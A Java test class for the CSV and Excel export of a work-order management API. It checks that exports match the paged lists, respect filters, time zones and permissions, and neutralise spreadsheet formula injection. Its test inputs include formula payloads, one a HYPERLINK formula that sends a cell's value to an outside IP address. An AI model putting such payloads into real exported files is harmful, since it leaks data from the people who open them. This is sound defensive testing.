package org.bihuan.exports;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.apache.commons.csv.CSVRecord;
import org.bihuan.testing.Api;
import org.bihuan.testing.Api.Answer;
import org.bihuan.testing.HttpTest;
import org.bihuan.testing.WorkOrderFixtures;
import org.bihuan.testing.World;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is taken home is what is seen: read back by other libraries and held against the list, page by page. */
@HttpTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportTest {
    private static final ZoneId SHANGHAI = ZoneId.of("Asia/Shanghai");
    private static final DateTimeFormatter SECONDS = DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss");
    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    /** As people may type them; each must come back as it is. */
    private static final List<String> DESCRIPTIONS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://198.51.100.7/?\"&A1)",
            "+8613800138000 打不通",
            "-2 层漏水",
            "@SUM(A1:A9)",
            "\t=制表符",
            "＝全角",
            "＠全角",
            "'=带引号",
            "逗号, \"引号\"; 分号",
            "第一行\n第二行\r\n第三行",
            "𠮷㛃 😀 e\u0301");

    private World world;

    /** One for all of them, because none changes anything. */
    @BeforeAll
    void settle() {
        world = World.fresh();
        Map<String, Object> call = Map.of(
                "communityId", world.id("community"),
                "channel", "CALL",
                "startedAt", "2026-11-23T01:12:00Z",
                "caller", Map.of("residentId", world.id("resident")),
                "workOrders", List.of(Map.of("kind", "INQUIRY", "description", "停车怎么收费")));
        world.as("desk").post("/interactions", call).require(201);
        for (String description : DESCRIPTIONS) {
            world.as("desk")
                    .post("/work-orders", WorkOrderFixtures.matter(world, "COMPLAINT", description))
                    .require(201);
        }
        WorkOrderFixtures.onHold(world, WorkOrderFixtures.inProgress(world));
        WorkOrderFixtures.closed(world);
    }

    /** Page by page. */
    private static List<JsonNode> list(Api as, String path) {
        List<JsonNode> all = new ArrayList<>();
        String cursor = "";
        do {
            String more = (path.contains("?") ? "&" : "?") + "limit=5" + (cursor.isEmpty() ? "" : "&cursor=" + cursor);
            Answer page = as.get(path + more).require(200);
            page.body().path("items").forEach(all::add);
            cursor = page.body().path("nextCursor").asText("").replace("null", "");
        } while (!cursor.isEmpty());
        return all;
    }

    private static List<String> column(List<CSVRecord> rows, String title) {
        return rows.stream().map(row -> row.get(title)).toList();
    }

    private static <T> List<T> of(List<JsonNode> items, Function<JsonNode, T> value) {
        return items.stream().map(value).toList();
    }

    /** Of a cell of CSV, by the rule in src/docs/exports.md. */
    private static String asItWas(String cell) {
        return cell.matches("(?s)'+[=+\\-@\\t\\r\\n＝＋－＠].*") ? cell.substring(1) : cell;
    }

    private static LocalDateTime local(JsonNode instant, ZoneId zone) {
        return LocalDateTime.ofInstant(Instant.parse(instant.asText()).truncatedTo(ChronoUnit.SECONDS), zone);
    }

    @Test
    void csvIsTheListReadPageByPage() {
        List<JsonNode> list = list(world.as("desk"), "/work-orders");
        List<CSVRecord> rows = Download.csv(
                Download.of(world.as("desk"), "/work-orders/export").bytes());
        assertThat(rows).hasSize(DESCRIPTIONS.size() + 3);
        assertThat(column(rows, "工单号"))
                .isEqualTo(of(list, item -> item.path("number").asText()));
        assertThat(column(rows, "编号（系统）"))
                .isEqualTo(of(list, item -> item.path("id").asText()));
        assertThat(column(rows, "描述").stream().map(ExportTest::asItWas))
                .isEqualTo(of(list, item -> item.path("description").asText()));
        assertThat(column(rows, "描述")).allSatisfy(cell -> assertThat(cell).doesNotMatch("(?s)[=+\\-@\\t\\r＝＋－＠].*"));
        assertThat(column(rows, "报事人电话")).containsOnly("'+8613800138000");
        assertThat(column(rows, "登记时间 (Asia/Shanghai)"))
                .isEqualTo(of(list, item -> SECONDS.format(local(item.path("createdAt"), SHANGHAI))));
        assertThat(rows.getFirst().get("状态")).isEqualTo("已关闭");
        assertThat(rows.getFirst().get("处理结果")).isEqualTo("更换了角阀");
        assertThat(rows.getFirst().get("关闭方式")).isEqualTo("经理决定免访");
        assertThat(rows.get(1).get("挂起原因")).isEqualTo("等配件");
        assertThat(rows.get(1).get("处理人"))
                .isEqualTo(list.get(1).at("/assignee/displayName").asText());
    }

    @Test
    void aWorkbookSaysTheSameInCellsOfTheirTypes() {
        List<JsonNode> list = list(world.as("desk"), "/work-orders");
        Download download = Download.of(
                world.as("desk"), "/work-orders/export?format=xlsx&columns=number,description,reporterPhone,createdAt");
        assertThat(download.header("Content-Type")).isEqualTo(XLSX);
        List<Row> rows = Download.xlsx(download.bytes());
        assertThat(rows.getFirst().stream().map(cell -> cell.asString()))
                .containsExactly("工单号", "描述", "报事人电话", "登记时间 (Asia/Shanghai)");
        List<Row> body = rows.subList(1, rows.size());
        assertThat(body).hasSize(list.size());
        for (int i = 0; i < list.size(); i++) {
            Row row = body.get(i);
            JsonNode item = list.get(i);
            assertThat(row.getCell(1).getType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(1).getFormula()).isNull();
            assertThat(row.getCell(0).asString()).isEqualTo(item.path("number").asText());
            assertThat(row.getCell(1).asString().replace("\r\n", "\n"))
                    .isEqualTo(item.path("description").asText().replace("\r\n", "\n"));
            assertThat(row.getCell(2).asString()).isEqualTo("+8613800138000");
            assertThat(row.getCell(3).asDate()).isEqualTo(local(item.path("createdAt"), SHANGHAI));
        }
    }

    @ParameterizedTest
    @CsvSource({
        "/interactions, startedAt, 开始时间 (Asia/Shanghai)",
        "/follow-ups, dueAt, 应完成时间 (Asia/Shanghai)",
        "/residents, createdAt, 登记时间 (Asia/Shanghai)",
        "/units, createdAt, 登记时间 (Asia/Shanghai)"
    })
    void everyListCanBeTakenHome(String path, String time, String title) {
        List<JsonNode> list = list(world.as("desk"), path);
        assertThat(list).isNotEmpty();
        List<CSVRecord> rows =
                Download.csv(Download.of(world.as("desk"), path + "/export").bytes());
        assertThat(column(rows, "编号（系统）"))
                .isEqualTo(of(list, item -> item.path("id").asText()));
        assertThat(column(rows, title)).isEqualTo(of(list, item -> SECONDS.format(local(item.path(time), SHANGHAI))));
        assertThat(Download.xlsx(Download.of(world.as("desk"), path + "/export?format=xlsx")
                        .bytes()))
                .hasSize(list.size() + 1);
    }

    @Test
    void filtersAndOrderAreThoseOfTheList() {
        for (String filter : List.of(
                "?status=CLOSED",
                "?sort=createdAt&kind=COMPLAINT",
                "?q=漏水",
                "?sort=dueAt",
                "?assigneeId=" + world.id("technician"))) {
            List<JsonNode> list = list(world.as("manager"), "/work-orders" + filter);
            List<CSVRecord> rows = Download.csv(Download.of(world.as("manager"), "/work-orders/export" + filter)
                    .bytes());
            assertThat(list).as(filter).isNotEmpty();
            assertThat(column(rows, "工单号"))
                    .as(filter)
                    .isEqualTo(of(list, item -> item.path("number").asText()));
        }
    }

    @Test
    void titlesAndWordsAreInTheCallersLanguageAndTimesInTheZoneAskedFor() {
        Api desk = world.as("desk").with("Accept-Language", "en");
        String path = "/work-orders/export?status=CLOSED&timeZone=America/New_York&columns=status,kind,createdAt";
        CSVRecord row = Download.csv(Download.of(desk, path).bytes()).getFirst();
        JsonNode item = list(desk, "/work-orders?status=CLOSED").getFirst();
        assertThat(row.toMap().keySet()).containsExactly("Status", "Kind", "Registered at (America/New_York)");
        assertThat(row.get("Status")).isEqualTo("closed");
        assertThat(row.get("Kind")).isEqualTo("repair");
        assertThat(row.get(2)).isEqualTo(SECONDS.format(local(item.path("createdAt"), ZoneId.of("America/New_York"))));
    }

    @Test
    void whereCommunitiesDifferTimesAreInUtcUnlessOneIsAskedFor() {
        World other = World.fresh();
        other.as("admin")
                .post("/communities", Map.of("name", "新疆小区", "timeZone", "Asia/Urumqi"))
                .require(201);
        assertThat(new String(
                        Download.of(other.as("admin"), "/units/export").bytes(),
                        java.nio.charset.StandardCharsets.UTF_8))
                .contains("登记时间 (UTC)");
        assertThat(new String(
                        Download.of(other.as("admin"), "/units/export?communityId=" + other.id("community"))
                                .bytes(),
                        java.nio.charset.StandardCharsets.UTF_8))
                .contains("登记时间 (Asia/Shanghai)");
    }

    @Test
    void theFileHasANameThatSaysWhatItIs() {
        Download download = Download.of(World.first().as("desk"), "/work-orders/export?columns=number");
        assertThat(download.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(download.header("Content-Disposition"))
                .matches("attachment; filename=\"work-orders-\\d{8}-\\d{4}\\.csv\";"
                        + " filename\\*=UTF-8''%E5%B7%A5%E5%8D%95-\\d{8}-\\d{4}\\.csv");
        assertThat(download.header("Cache-Control")).isEqualTo("no-store");
        assertThat(download.bytes()).startsWith(0xEF, 0xBB, 0xBF).endsWith('\r', '\n');
    }

    @ParameterizedTest
    @CsvSource({
        "format=pdf, ?format, NOT_ONE_OF",
        "columns=number%2Csalary, ?columns, NOT_ONE_OF",
        "timeZone=Asia/Atlantis, ?timeZone, UNKNOWN_TIME_ZONE",
        "sort=number, ?sort, NOT_ONE_OF",
        "status=OPEN, ?status, NOT_ONE_OF",
        "limit=5, ?limit, UNKNOWN_PARAMETER"
    })
    void whatCannotBeTakenHomeIsRefusedInWords(String query, String pointer, String code) {
        Answer answer = World.first().as("desk").get("/work-orders/export?" + query);
        assertThat(answer.status()).as(answer.raw()).isEqualTo(400);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        assertThat(answer.text("/errors/0/pointer")).isEqualTo(pointer);
        assertThat(answer.text("/errors/0/code")).isEqualTo(code);
    }

    @Test
    void whatOnlyTheRowsTellIsRefusedInWordsToo() {
        Answer answer = World.first().as("desk").get("/interactions/export?phone=nobody");
        assertThat(answer.status()).as(answer.raw()).isEqualTo(422);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        assertThat(answer.header("Content-Disposition")).isEmpty();
        assertThat(World.first()
                        .as("desk")
                        .with("Accept", "application/json")
                        .get("/work-orders/export")
                        .status())
                .isEqualTo(406);
    }

    @Test
    void everybodyTakesHomeOnlyWhatTheySee() {
        List<CSVRecord> technician = Download.csv(
                Download.of(world.as("technician"), "/work-orders/export").bytes());
        assertThat(technician).hasSize(2);
        assertThat(Download.csv(Download.of(world.as("technician2"), "/work-orders/export")
                        .bytes()))
                .isEmpty();
        String community = "/work-orders/export?communityId=" + world.id("community");
        assertThat(Download.csv(Download.of(world.as("strangerDesk"), community).bytes()))
                .isEmpty();
        assertThat(Download.csv(Download.of(World.other().as("desk"), community).bytes()))
                .isEmpty();
        assertThat(world.as("owner").get("/work-orders/export").status()).isEqualTo(403);
        assertThat(world.as("admin").get("/work-orders/export").status()).isEqualTo(403);
    }
}
